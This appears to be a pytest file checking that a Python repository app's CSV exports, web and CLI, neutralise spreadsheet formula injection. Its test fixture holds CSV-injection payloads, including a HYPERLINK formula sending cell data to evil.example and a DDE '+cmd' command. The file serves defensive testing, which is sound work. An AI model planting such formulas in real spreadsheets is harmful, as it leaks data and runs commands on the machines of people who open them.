"""CSV injection (OWASP): no exported cell runs as a spreadsheet formula — in
`/export.csv`, `repository export --format csv` and (tests/workspace) the audit CSV — and
a Markdown list opens as text, not as "minus item"."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from repository.cli import app
from repository.config import Settings
from repository.csv_safety import FORMULA_START, safe_cell
from repository.ingest.pipeline import ingest
from repository.search import store as store_module
from repository.search.embedder import Embedder
from repository.search.store import Store
from repository.web.app import create_app

HOSTILE = """---
title: '=HYPERLINK("http://evil.example/?"&A1,"Open the sheet")'
summary: "+cmd|' /C calc'!A0"
project: "@SUM(A1:A9)"
country: France
partners: ["-2+3", "Ville de Lyon"]
---
Night mediators of Lyon calm conflicts in the streets of the old town.

## Objectives
- keep the night calm
- mediate between residents and bars

## Contact
\tmediation@lyon.example
"""


@pytest.fixture
def hostile_store(tmp_path: Path, embedder: Embedder) -> Settings:
    sheet = tmp_path / "hostile.md"
    sheet.write_text(HOSTILE)
    settings = Settings(data_dir=tmp_path / "var")
    with Store.open(settings, embedder) as store:
        assert not ingest([sheet], store).failed
    return settings


def _row(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    return rows[0]


def _check(row: dict[str, str]) -> None:
    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open the sheet\")"
    assert row["summary"] == "'+cmd|' /C calc'!A0"
    assert row["project"] == "'@SUM(A1:A9)"
    assert row["partners"] == "'-2+3; Ville de Lyon"
    assert row["objectives"] == "• keep the night calm\n• mediate between residents and bars"
    assert row["contact"] == "mediation@lyon.example"  # the reader strips the tab
    for column, cell in row.items():
        assert cell[:1] not in FORMULA_START or cell.lstrip("+-").replace(".", "").isdigit(), \
            (column, cell)


def test_the_web_export_neutralises_formula_cells(hostile_store: Settings,
                                                  embedder: Embedder) -> None:
    with Store.open(hostile_store, embedder) as store, \
            TestClient(create_app(hostile_store, store)) as client:
        response = client.get("/export.csv")
        assert response.status_code == 200
        _check(_row(response.text))
        # the JSON export and the API keep the sheet's own text
        assert client.get("/export.json").json()["records"][0]["title"].startswith("=HYPER")


def test_the_cli_export_neutralises_formula_cells(hostile_store: Settings, embedder: Embedder,
                                                  monkeypatch: pytest.MonkeyPatch,
                                                  tmp_path: Path) -> None:
    monkeypatch.setenv("REPOSITORY_DATA_DIR", str(hostile_store.data_dir))
    monkeypatch.setattr(store_module, "Embedder", lambda *args, **kwargs: embedder)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    _check(_row(out.read_text(encoding="utf-8")))


@given(st.text())
def test_no_cell_starts_a_formula_or_a_line_with_a_bullet(text: str) -> None:
    cell = safe_cell(text)
    assert cell[:1] not in FORMULA_START or cell == text  # only plain numbers stay as they are
    assert not any(line.lstrip(" \t").startswith("- ") and line.lstrip(" \t")[2:].strip()
                   for line in cell.split("\n"))
    assert safe_cell(cell) == cell  # once safe, it stays the same


def test_numbers_and_ordinary_text_are_unchanged() -> None:
    for value in ("-12.5", "+3", "1e5", "Lyon", "12 500 €", "a - b", "", None):
        assert safe_cell(value) == ("" if value is None else value)
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r@x") == "'\r@x"
    assert safe_cell("＝HYPERLINK()") == "'＝HYPERLINK()"
